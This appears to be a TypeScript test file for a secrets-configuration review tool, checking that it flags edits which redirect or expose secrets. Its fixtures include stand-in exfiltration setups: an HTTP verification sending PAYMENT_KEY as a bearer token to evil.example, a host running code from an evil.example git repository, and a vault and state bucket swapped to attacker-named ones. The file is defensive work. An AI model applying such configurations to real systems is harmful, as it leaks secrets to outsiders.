/** Changes that bring a value to somebody else by a way that is not an access, or that take the eyes off one. */
import type { ResolvedReader } from "../../model/resolved-reader";
import { reviewOf } from "../../review/review";
import { acme } from "../support/acme";
import { bindingOf } from "../support/resolved-fixture";
import { type Draft, edited, entryIn, linesOf, productIn, reviewOfEdit } from "./support";

const host = (over: Partial<ResolvedReader>): Draft["products"][number]["otherReaders"][number] => ({
  key: "shop/stack",
  name: "stack",
  product: "shop",
  role: "compose host",
  member: null,
  reads: [{ entry: "shop/PAYMENT_KEY", as: "PAYMENT_KEY" }],
  deployment: "shop-dev",
  ...(over as object),
});
const withHost = edited((draft) => void productIn(draft).otherReaders.push(host({})));
const moved = "another place under the same name";

it("a Vercel project that is another one under the same name is new access to all that it gets", () => {
  const review = reviewOfEdit((draft) => {
    for (const one of productIn(draft).vercelProjects) one.projectId = "prj_evil";
  });
  const { teamId, projectId } = acme().products.flatMap(({ vercelProjects }) => vercelProjects)[0] ?? {};
  expect(review.verdict.newAccess).toBe(true);
  expect(linesOf(review)).toContain(
    `danger access: Vercel project shop/web, development gains shop/SESSION_SECRET, delivered to ${teamId}/prj_evil (before: ${teamId}/${projectId}) | ${moved} | everybody in the Vercel project can read the value there | declared by shop/web: gets the value delivered`,
  );
});

it.each<[string, Partial<ResolvedReader>, string]>([
  [
    "gets its values in another place",
    { deployment: "elsewhere" },
    `danger access: compose host shop/stack gains shop/PAYMENT_KEY, delivered to elsewhere (before: shop-dev) | ${moved} | declared by shop/stack: gets the value delivered`,
  ],
  [
    "runs the files of somebody else",
    { configuration: { kind: "git", address: "https://evil.example/x.git", ref: "main", folder: "" } },
    "attention targets: shop/stack runs the files of {kind:git,address:https://evil.example/x.git,ref:main,folder:} (before: nothing)",
  ],
])("a compose host that %s", (_, over, line) => {
  const after = edited((draft) => {
    productIn(draft).otherReaders = [host(over)];
  }, withHost);
  expect(linesOf(reviewOf([withHost], [after]))).toContain(line);
});

it("a verification that sends the value elsewhere", () => {
  const verify = {
    kind: "http",
    says: "lists",
    method: "GET",
    url: "https://evil.example/",
    headers: { authorization: "Bearer {value}" },
    body: null,
    expects: 200,
  } as const;
  expect(linesOf(reviewOfEdit((draft) => void Object.assign(entryIn(draft, "PAYMENT_KEY"), { verify })))).toEqual([
    "danger declared: shop/PAYMENT_KEY verified by: {kind:http,says:lists,method:GET,url:https://evil.example/,headers:{authorization:Bearer {value}},body:null,expects:200} (before: nothing)",
  ]);
});

it("a format that says the same and allows more", () => {
  const format = (source: string) => ({ source, flags: "", says: "a key" });
  const with_ = (source: string) =>
    edited((draft) => void Object.assign(entryIn(draft, "PAYMENT_KEY"), { format: format(source) }));
  expect(linesOf(reviewOf([with_("^sk_")], [with_("")]))).toEqual([
    "attention declared: shop/PAYMENT_KEY format: {source:,flags:,says:a key} (before: {source:^sk_,flags:,says:a key})",
  ]);
});

it("a value that somebody could see in a second variable, although the first is sensitive", () => {
  const sensitive = (draft: Draft) => {
    for (const project of productIn(draft).vercelProjects)
      for (const one of project.variables) Object.assign(one, { sensitive: true });
  };
  const before = edited(sensitive);
  const after = edited((draft) => {
    sensitive(draft);
    for (const project of productIn(draft).vercelProjects)
      project.variables.push(
        ...project.variables.map((one) => ({
          ...structuredClone(one),
          variable: { ...one.variable, name: `${one.variable.name}_2` },
          sensitive: false,
        })),
      );
  });
  const review = reviewOf([before], [after]);
  expect(review.verdict.newAccess).toBe(true);
  expect(linesOf(review).filter((line) => line.includes("shows "))).toContain(
    "attention access: Vercel project shop/web, development shows shop/SESSION_SECRET to people: the variable is no longer sensitive | everybody in the Vercel project can read the value there | declared by shop/web: gets the value delivered",
  );
});

describe("what would take the weight off an access", () => {
  const person = (draft: Draft) =>
    productIn(draft).bindings.push(
      bindingOf({ entry: "shop/PAYMENT_KEY", reader: "shop/eve", member: "user:eve@acme.example" }),
    );

  it("a production that is called development in the same change", () => {
    const production = edited((draft) => {
      draft.stage = "production";
    });
    const after = edited((draft) => {
      draft.stage = "development";
      person(draft);
    });
    expect(linesOf(reviewOf([production], [after]))).toEqual([
      "danger access: user:eve@acme.example gains shop/PAYMENT_KEY | a person, without an end | declared by shop/eve: may access the secret",
      "danger targets: dev has the stage development (before: production)",
    ]);
  });

  it("a project of one environment that is declared as another's", () => {
    const prod = edited((draft) => {
      draft.name = "prod";
      for (const product of draft.products) {
        product.project = product.project.replace("-dev", "-prod");
        for (const one of product.identities) one.project = product.project;
      }
    });
    const claimed = edited((draft) => {
      productIn(draft, "vault").project = "acme-shop-dev";
      productIn(draft).bindings.push(
        bindingOf({
          entry: "shop/PAYMENT_KEY",
          reader: "shop/worker",
          member: "serviceAccount:other@acme-shop-dev.iam.gserviceaccount.com",
        }),
      );
    }, prod);
    expect(linesOf(reviewOf([acme(), prod], [acme(), claimed])).filter((line) => line.includes("other@"))).toEqual([
      "danger access: serviceAccount:other@acme-shop-dev.iam.gserviceaccount.com gains shop/PAYMENT_KEY | cross-environment: the account belongs to dev | declared by shop/worker: may access the secret",
    ]);
  });

  it("a vault of somebody else, or a state in another bucket", () => {
    const lines = linesOf(
      reviewOfEdit((draft) => {
        draft.vault = { kind: "doppler", project: "evil" } as unknown as NonNullable<Draft["vault"]>;
        productIn(draft).stateBucket = "evil-bucket";
      }),
    );
    expect(lines).toEqual([
      expect.stringMatching(
        /^danger targets: dev takes values from the vault \{kind:doppler,project:evil\} \(before: /,
      ),
      expect.stringMatching(/^attention targets: shop keeps its Terraform state in evil-bucket \(before: /),
    ]);
  });

  it("an ingress that is wider", () => {
    const [service] = acme().products.flatMap(({ services }) =>
      services.filter(({ ingress }) => ingress === "internal"),
    );
    expect(
      linesOf(
        reviewOfEdit((draft) => {
          for (const one of productIn(draft).services)
            if (one.key === service?.key) one.ingress = "internal and load balancing";
        }),
      ),
    ).toEqual([`attention targets: ${service?.key} has the ingress internal and load balancing (before: internal)`]);
  });
});
